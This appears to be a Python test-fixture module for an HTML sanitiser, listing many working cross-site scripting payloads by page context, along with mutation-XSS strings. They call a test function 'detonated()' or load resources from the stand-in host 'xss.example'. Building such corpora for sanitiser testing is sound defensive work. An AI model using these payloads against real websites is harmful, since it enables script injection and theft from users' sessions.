"""The lines that try to run a script, each with the place in a page where it would if nothing stood in its way.

Every line calls `detonated`, which the browser of these tests gives to each page, or fetches from `EVIL`. The control
in test_control.py plants each one as it is and expects to hear it: a line that never goes off tests nothing.
"""

from dataclasses import dataclass
from enum import StrEnum

EVIL = "xss.example"
MARK = "xq7"
"""Stands in every value that is planted, so that pages without one need no look."""


class Place(StrEnum):
    """Where in a page a text can stand; `{}` is the text."""

    BODY = "<p>{}</p>"
    DOUBLE = '<input name="a" value="{}">'
    SINGLE = "<input name='a' value='{}'>"
    BARE = "<input name=a value={} >"
    LINK = '<a href="{}">x</a>'
    FRAME = '<iframe src="{}"></iframe>'
    INSIDE_FRAME = '<iframe srcdoc="{}"></iframe>'
    TITLE = "<title>{}</title>"
    AREA = "<textarea>{}</textarea>"
    NOTE = "<!-- {} -->"
    STYLE = "<style>p { color: {} }</style>"
    SCRIPT = '<script>var text = "{}";</script>'
    SCRIPT_SINGLE = "<script>var text = '{}';</script>"
    SCRIPT_TEMPLATE = "<script>var text = `{}`;</script>"
    HANDLER = "<details open ontoggle=\"show('{}')\">x</details>"
    NO_SCRIPT = "<noscript>{}</noscript>"


@dataclass(frozen=True)
class Line:
    """One text, and where it goes off."""

    place: Place
    text: str


_LINES: dict[Place, tuple[str, ...]] = {
    Place.BODY: (
        "<script>detonated()</script>",
        "<ScRiPt>detonated()</sCrIpT>",
        "<script/x>detonated()</script/x>",
        "<script\n>detonated()</script\t>",
        "<script src=//xss.example/a.js></script>",
        "<script src=data:text/javascript,detonated()></script>",
        "<script type=module>detonated()</script>",
        "<<script>detonated()//<</script>",
        "<img src=x onerror=detonated()>",
        "<img src=x onerror=detonated``>",
        "<img src=x onerror='&#100;etonated()'>",
        "<img src=x onerror='&#x64;&#x65;tonated()'>",
        "<img src=x onerror=\"\\u0064etonated()\">",
        "<img/src='x'/onerror=detonated()>",
        "<img src=x oNeRrOr=detonated()>",
        "<img src=x onerror\n=\ndetonated()>",
        "<img \x0csrc=x\x0conerror=detonated()>",
        "<img src=//xss.example/pixel.gif>",
        "<img srcset=//xss.example/set.gif>",
        "<image src=x onerror=detonated()>",
        "<svg onload=detonated()>",
        "<svg/onload=detonated()>",
        "<svg><script>detonated()</script></svg>",
        "<svg><script>&#100;etonated()</script></svg>",
        "<svg><script href=data:,detonated()></script></svg>",
        "<svg><animate onbegin=detonated() attributeName=x dur=1s>",
        "<svg><set onbegin=detonated() attributename=x to=y>",
        "<svg><image href=x onerror=detonated()></svg>",
        "<svg><image href=//xss.example/i.svg></svg>",
        "<svg><a xlink:href=javascript:detonated()><text y=9>x</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=detonated()></foreignObject></svg>",
        "<math><a xlink:href=javascript:detonated()>x</a></math>",
        "<math><mtext><img src=x onerror=detonated()></mtext></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=detonated()></annotation-xml></math>",
        "<iframe src=javascript:detonated()></iframe>",
        "<iframe srcdoc='<script>detonated()</script>'></iframe>",
        "<iframe srcdoc='&lt;img src=x onerror=detonated()&gt;'></iframe>",
        "<iframe onload=detonated()></iframe>",
        "<iframe src='data:text/html,<script src=//xss.example/d.js></script>'></iframe>",
        "<object data=//xss.example/o.html></object>",
        "<embed src=//xss.example/e.html>",
        "<details open ontoggle=detonated()>x</details>",
        "<input autofocus onfocus=detonated()>",
        "<select autofocus onfocus=detonated()><option>x</select>",
        "<textarea autofocus onfocus=detonated()>x</textarea>",
        "<b tabindex=1 autofocus onfocus=detonated()>x</b>",
        "<video><source onerror=detonated()></video>",
        "<video src=x onerror=detonated()></video>",
        "<audio src=x onerror=detonated()>",
        "<video poster=//xss.example/p.gif></video>",
        "<body onload=detonated()>",
        "<body background=//xss.example/b.gif>",
        "<style onload=detonated()></style>",
        "<style>@import '//xss.example/a.css'</style>",
        "<style>p{background:url(//xss.example/u.gif)}</style>",
        "<p style='background:url(//xss.example/s.gif)'>x</p>",
        "<p style='background:\\75rl(//xss.example/t.gif)'>x</p>",
        "<link rel=stylesheet href=//xss.example/l.css>",
        "<link rel=stylesheet href=data:, onload=detonated()>",
        "<meta http-equiv=refresh content='0;url=//xss.example/m'>",
        "<base href=//xss.example/><script src=b.js></script>",
        "<a href=javascript:detonated()>x</a>",
        "<a href='java\tscript:detonated()'>x</a>",
        "<a href='&#1;javascript:detonated()'>x</a>",
        "<a href=javascript&colon;detonated&lpar;&rpar;>x</a>",
        "<a href=x onclick=detonated()>x</a>",
        "<form action=javascript:detonated()><button>x</button></form>",
        "<form><button formaction=javascript:detonated()>x</button></form>",
        "<p onmouseover=detonated()>x</p>",
        "<template><p></p></template><img src=x onerror=detonated()>",
        "<template shadowrootmode=open><img src=x onerror=detonated()></template>",
        "<table><td background=//xss.example/c.gif>x</table>",
        "<img src=x onerror=detonated()//",
        "\u202e<img src=x onerror=detonated()>\u202c",
        "\ufeff<img src=x onerror=detonated()>",
        "]]><img src=x onerror=detonated()>",
        "<![CDATA[><img src=x onerror=detonated()>]]>",
        "<?x ><img src=x onerror=detonated()>?>",
        "</p></div></main></body></html><img src=x onerror=detonated()>",
        "{{ '<img src=x onerror=detonated()>' }}",
        "${'<img src=x onerror=detonated()>'}",
    ),
    Place.DOUBLE: (
        '"><img src=x onerror=detonated()>',
        '" autofocus onfocus="detonated()',
        '"/onfocus=detonated()/x="',
    ),
    Place.SINGLE: ("'><svg onload=detonated()>", "' autofocus onfocus='detonated()"),
    Place.BARE: ("x autofocus onfocus=detonated()", "x><img src=x onerror=detonated()>"),
    Place.LINK: (
        "javascript:detonated()",
        "JaVaScRiPt:detonated()",
        " \x01javascript:detonated()",
        "java\nscript:detonated()",
        "javascript://x.example/%0adetonated()",
        "javascript:/*https://x.example*/detonated()",
        "&#106;avascript:detonated()",
        "data:text/html,<script>detonated()</script>",
        "vbscript:detonated()",
    ),
    Place.FRAME: ("javascript:detonated()//https://x.example",),
    Place.INSIDE_FRAME: ("&lt;img src=x onerror=detonated()&gt;", "&amp;lt;p&gt;<svg onload=detonated()>"),
    Place.TITLE: ("</title><img src=x onerror=detonated()>",),
    Place.AREA: ("</textarea><img src=x onerror=detonated()>", "</teXtarea/x><svg onload=detonated()>"),
    Place.NOTE: ("--><img src=x onerror=detonated()>", "--!><img src=x onerror=detonated()>"),
    Place.STYLE: ("red}</style><img src=x onerror=detonated()>", "red} body{background:url(//xss.example/z.gif)"),
    Place.SCRIPT: ('";detonated();//', "</script><img src=x onerror=detonated()>", '"-detonated()-"'),
    Place.SCRIPT_SINGLE: ("';detonated();//", "'+detonated()+'"),
    Place.SCRIPT_TEMPLATE: ("${detonated()}", "`;detonated();//"),
    Place.HANDLER: ("');detonated();//", "&#39;);detonated();//"),
    Place.NO_SCRIPT: ("<p title='</noscript><img src=x onerror=detonated()>'>",),
}  # fmt: skip
CORPUS = [Line(place, text) for place, texts in _LINES.items() for text in texts]

# What a sanitiser makes worse: harmless when read once, but not after it was read, written and read again.
MUTANTS = [
    "<svg></p><style><img src=x onerror=detonated()></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=detonated()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=detonated()>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=1 onerror=detonated()>'>",
    "<noscript><p title='</noscript><img src=x onerror=detonated()>'></noscript>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=detonated()></style></annotation-xml></math>",
    "<svg><title><style><img src=x onerror=detonated()></style></title></svg>",
    "<table><a href='x'><table><a href=javascript:detonated()>y</a></table></a></table>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=detonated()>'>",
    "<xmp><p title='</xmp><img src=x onerror=detonated()>'></xmp>",
    "<plaintext><img src=x onerror=detonated()>",
    "<p title='&quot;&gt;&lt;img src=x onerror=detonated()&gt;'>x</p>",
    "<a href='https://{{ tracked_link }}\" onmouseover=\"detonated()'>x</a>",
    "<a href='{{ tracked_link }}javascript:detonated()'>x</a>",
    "<a href='javascript:detonated()//{{ tracked_link }}'>x</a>",
    "<img alt='{{ disclosure }}\" onerror=\"detonated()' src='https://x.example/a.png'>",
    "<p style='color:red;x:\"&quot;onclick=detonated()'>x</p>",
    '<p title="{{ coupon_code }}\'><img src=x onerror=detonated()>">x</p>',
    "<!--[if mso]><script>detonated()</script><![endif]--><p>x</p>",
    "<!--><img src=x onerror=detonated()>-->",
    "<!--!><img src=x onerror=detonated()>-->",
]
